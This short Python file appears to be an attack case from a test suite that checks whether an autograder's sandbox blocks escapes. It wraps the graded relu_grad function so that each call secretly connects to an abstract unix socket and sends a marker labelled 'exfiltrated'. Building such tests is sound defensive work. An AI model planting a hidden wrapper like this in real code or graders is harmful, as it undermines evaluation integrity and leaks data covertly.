"""Connect to an abstract unix socket the test listens on (no file system path needed)."""
MODULE = "ex3_mlp_backprop"
CLASS = "network"
MODES = ("grade", "batch", "gradescope", "nbgrader")


def _atk_relu_grad(z, _orig=relu_grad):
    import socket
    try:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as conn:
            conn.settimeout(1)
            conn.connect("\0" + _ATTACK["abstract"])
            conn.sendall(f"{_ATTACK['marker']} exfiltrated".encode())
        _atk_win("connected to the host's abstract socket")
    except OSError:
        pass
    return _orig(z)


relu_grad = _atk_relu_grad
